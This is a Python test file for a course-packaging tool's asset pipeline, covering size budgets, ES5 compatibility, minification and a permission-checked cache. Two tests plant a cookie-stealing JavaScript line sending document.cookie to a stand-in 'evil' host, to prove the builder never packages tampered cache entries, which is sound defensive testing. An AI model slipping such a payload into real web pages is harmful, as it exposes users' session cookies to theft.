"""Shipped static assets: minified at build time, deterministic, and small enough to load on a slow line."""

from __future__ import annotations

import gzip
import hashlib
import os
import stat
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest

from builder.assets import minify, shipped, shipped_bytes

STATIC = Path(__file__).resolve().parent.parent / "templates" / "static"
BUDGET = 9794  # bytes of gzip -9 of every shipped script and stylesheet together (bench/README.md);
# +141 B: coursepack.js merges what two tabs save and shows another tab's saves (docs/tracking.md)
CMI5_RUNTIME = STATIC.parent / "formats" / "cmi5.js"  # in cmi5 packages only, beside coursepack.js
CMI5_BUDGET = 3584  # bytes of gzip -9: launch, token, launch data, statements, bookmark (it was 2.9 KB)


def test_shipped_css_and_js_are_under_8_kb_gzipped():
    files = sorted(p for p in STATIC.iterdir() if p.suffix in (".css", ".js"))
    assert {p.name for p in files} >= {"coursepack.css", "coursepack.js"}
    sizes = {p.name: len(gzip.compress(shipped_bytes(p), 9)) for p in files}
    assert sum(sizes.values()) < BUDGET, f"gzip -9 sizes {sizes}: {sum(sizes.values())} B, budget {BUDGET} B"


def test_the_cmi5_runtime_is_es5_and_small():
    from calmjs.parse import es5

    es5(CMI5_RUNTIME.read_text(encoding="utf-8"))  # old WebViews: a syntax error here would stop the course
    size = len(gzip.compress(shipped_bytes(CMI5_RUNTIME), 9))
    assert size < CMI5_BUDGET, f"cmi5.js is {size} B gzipped, budget {CMI5_BUDGET} B"


def test_the_runtime_is_es5():
    from calmjs.parse import es5

    # the minifier falls back to whitespace removal for newer syntax, so only a parse says old browsers run it
    es5((STATIC / "coursepack.js").read_text(encoding="utf-8"))


def test_scripts_and_stylesheets_are_minified_deterministically():
    for name in ("coursepack.js", "coursepack.css"):
        source = (STATIC / name).read_bytes()
        small = shipped_bytes(STATIC / name)
        assert len(small) < len(source), f"{name} did not shrink"
        assert small == minify(bytes(source), (STATIC / name).suffix)  # a fresh copy: not only the cache
    css, js = shipped_bytes(STATIC / "coursepack.css"), shipped_bytes(STATIC / "coursepack.js")
    assert b"/*" not in css and b"\n" not in css
    assert b"//" not in js and b"\n  " not in js  # comments and indentation gone


def test_other_static_files_ship_as_they_are(tmp_path):
    svg = tmp_path / "logo.svg"
    svg.write_text("<svg xmlns='http://www.w3.org/2000/svg'>  <!-- kept --> </svg>\n")
    assert shipped(svg) == svg


def test_a_course_override_is_minified_too(new_course, run, tmp_path):
    static = new_course / "templates" / "static"
    static.mkdir(parents=True)
    (static / "coursepack.css").write_text("/* our colours */\nbody {\n  color: #123456;\n}\n")
    (static / "extra.JS").write_text("// greeting\nvar greeting = 'hello';   // kept\n")
    (static / "notes.txt").write_text("  left  as  it  is  \n")
    result = run("build", new_course, "--out", tmp_path / "dist")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "dist" / "town-course-0.1.0-offline.zip") as archive:
        assert archive.read("assets/coursepack.css") == b"body{color:#123456}"
        assert archive.read("assets/extra.JS") == b"var greeting='hello';"
        assert archive.read("assets/notes.txt") == b"  left  as  it  is  \n"


@pytest.fixture
def private_temp(tmp_path, monkeypatch):
    """A temp folder of the test's own (for private_folder), and a process that keeps minified scripts."""
    from builder import assets

    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    assets.keep_in(tmp_path / "cache")
    assets.minify.cache_clear()
    yield temp
    assets.keep_in(None)
    assets.minify.cache_clear()


POSIX_ONLY = pytest.mark.skipif(not hasattr(os, "getuid"), reason="owners and modes: on Windows the temp folder is the user's")


@POSIX_ONLY
def test_minified_scripts_are_kept_for_the_next_process_in_a_private_folder(private_temp, monkeypatch):
    from builder import assets

    source = (STATIC / "coursepack.js").read_bytes() + b"\nvar edited = 1;\n"  # not in templates/minified/
    expected = assets.MINIFIERS[".js"](source)
    assert assets.minify(source, ".js") == expected
    [folder] = private_temp.iterdir()
    assert folder.name == f"coursepack-minified-{os.getuid()}" and stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert [p.suffix for p in folder.rglob("*.*")] == [".js"]
    assets.minify.cache_clear()  # as in a new process: only the folder remembers
    monkeypatch.setitem(assets.MINIFIERS, ".js", lambda data: b"parsed again")
    assert assets.minify(source, ".js") == expected
    assert assets.minify(b"p { color: red; }", ".css") == b"p{color:red}" and not list(folder.rglob("*.css"))


@POSIX_ONLY
@pytest.mark.parametrize("spoil", ["others may write it", "another user's", "a link"])
def test_a_private_folder_others_could_have_written_is_not_used(private_temp, spoil, monkeypatch):
    from builder import assets

    source = b"var planted = 'no';\n"
    folder = private_temp / f"coursepack-minified-{os.getuid()}"
    if spoil == "a link":
        (private_temp / "elsewhere").mkdir(mode=0o700)
        folder.symlink_to(private_temp / "elsewhere")
    else:
        folder.mkdir(mode=0o700)
        folder.chmod(0o777 if spoil == "others may write it" else 0o700)
    if spoil == "another user's":
        monkeypatch.setattr(os, "getuid", lambda: os.stat(folder).st_uid + 1)
        folder = folder.rename(private_temp / f"coursepack-minified-{os.getuid()}")
    key = hashlib.sha256(f"{assets._recipe()} .js ".encode() + source).hexdigest()
    (folder / key[:2]).mkdir()
    (folder / key[:2] / f"{key}.js").write_bytes(b"fetch('//evil')")
    assert assets.private_folder() is None
    assert assets.minify(source, ".js") == b"var planted='no';"


def test_a_script_planted_in_the_cache_folder_is_not_packaged(new_course, run, tmp_path, private_temp):
    """Anyone who can write the cache folder beside the courses (a shared repository, a CI cache) could put
    a script there under the key a build looked up: packages must carry the course's own script only."""
    from builder import assets

    script = b"// greeting\nvar greeting = 'hello';   // kept\n"
    static = new_course / "templates" / "static"
    static.mkdir(parents=True)
    (static / "extra.js").write_bytes(script)
    assert run("build", new_course, "--out", tmp_path / "dist").exit_code == 0
    key = hashlib.sha256(f"{assets._recipe()} .js ".encode() + script).hexdigest()
    cache = tmp_path / "courses" / ".coursepack-cache"
    for planted in [cache / "minified" / key[:2] / f"{key}.js", cache / key[:2] / f"{key}.js"]:
        planted.parent.mkdir(parents=True, exist_ok=True)
        planted.write_bytes(b"new Image().src='//evil/'+document.cookie")
    assets.minify.cache_clear()  # as in a new process
    assert run("build", new_course, "--out", tmp_path / "dist", "--force").exit_code == 0
    with zipfile.ZipFile(tmp_path / "dist" / "town-course-0.1.0-offline.zip") as archive:
        assert archive.read("assets/extra.js") == b"var greeting='hello';"


def test_own_scripts_and_stylesheets_are_committed_minified_and_match_their_sources():
    from builder import assets

    folder = STATIC.parent / assets.PREMINIFIED
    expected = {}
    for source in assets.own_sources():
        data = source.read_bytes()
        expected[f"{hashlib.sha256(data).hexdigest()}{source.suffix}"] = assets.MINIFIERS[source.suffix](data)
    committed = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert committed == expected, "templates/minified/ is out of date: run python -m builder.assets and commit it"
    assert {p.name for p in assets.own_sources()} == {"coursepack.css", "coursepack.js", "single.js", "cmi5.js"}


def test_a_build_with_an_empty_cache_minifies_nothing(new_course, tmp_path):
    """Parsing coursepack.js took every cold process and worker about 0.3 s: the committed files spare it."""
    script = ("import sys\nfrom pathlib import Path\nfrom builder.build import ALL_FORMATS, build\n"
              f"[r] = build([Path({str(new_course)!r})], Path({str(tmp_path / 'dist')!r}), ALL_FORMATS, "
              f"cache=Path({str(tmp_path / 'cache')!r}))\n"
              "assert not r.failed and r.packages, r.problems\n"
              "print([m for m in ('calmjs', 'calmjs.parse') if m in sys.modules])")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"
    assert not (tmp_path / "cache" / "minified").exists()
